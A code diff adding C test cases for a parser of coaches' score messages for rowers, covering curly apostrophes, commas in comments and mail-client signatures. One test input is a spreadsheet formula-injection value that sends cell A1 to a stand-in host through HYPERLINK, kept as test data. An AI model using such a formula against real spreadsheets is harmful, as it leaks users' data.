@@ -279,6 +279,22 @@ static const struct {
 	/* a block, then a line of scores alone, with no blank between */
 	{ "Jane Doe:\n  erg score: 7 - New PB\nSam: 4 3\n",
 	  "Jane Doe|erg score|0/0|7/0|New PB\nSam||1/2|4/0|\nSam||2/2|3/0|\n" },
+	/* the apostrophe a phone writes */
+	{ "James O\xe2\x80\x99" "Brien: 3 4\n",
+	  "James O'Brien||1/2|3/0|\nJames O'Brien||2/2|4/0|\n" },
+	/* a comment with a comma, then a sentence and another pair */
+	{ "Tom Walsh: fitness 4 Strong in the headwind, really led the boat. "
+	  "Technique 3 catch late\n",
+	  "Tom Walsh|fitness|0/0|4/0|Strong in the headwind, really led the "
+	  "boat.\nTom Walsh|Technique|0/0|3/0|catch late\n" },
+	{ "Tom Walsh: fitness 4 strong, and he led the boat for 3 lengths\n",
+	  "Tom Walsh|fitness|0/0|4/0|strong, and he led the boat for 3 "
+	  "lengths\n" },
+	/* a block's comment holding a colon, an '@' and commas */
+	{ "Jane Doe:\n  technique 4  @HYPERLINK(\"http://x.example/?\"&A1,"
+	  "\"click\")\n",
+	  "Jane Doe|technique|0/0|4/0|@HYPERLINK(\"http://x.example/?\"&A1,"
+	  "\"click\")\n" },
 	/* marks under lines quoted back are skipped */
 	{ "Jane Doe:\n fitness 4\n(!) fitness 9 is outside 1-5\n",
 	  "Jane Doe|fitness|0/0|4/0|\n" },
@@ -313,6 +329,7 @@ test_strip_phones(void **state)
 	static const char *const cut[] = {
 	    "Sent from my iPhone", "Sent from my Samsung Galaxy smartphone.",
 	    "Get Outlook for iOS", "Get Outlook for Android",
+	    "Get Outlook for iOS<https://aka.ms/o0ukef>",
 	    "Sent from Mail for Windows", "Sent from Yahoo Mail for iPhone",
 	    "Sent from my Galaxy", "Envoy\xc3\xa9 de mon iPhone",
 	    "Enviado desde mi iPhone", "Von meinem iPhone gesendet",
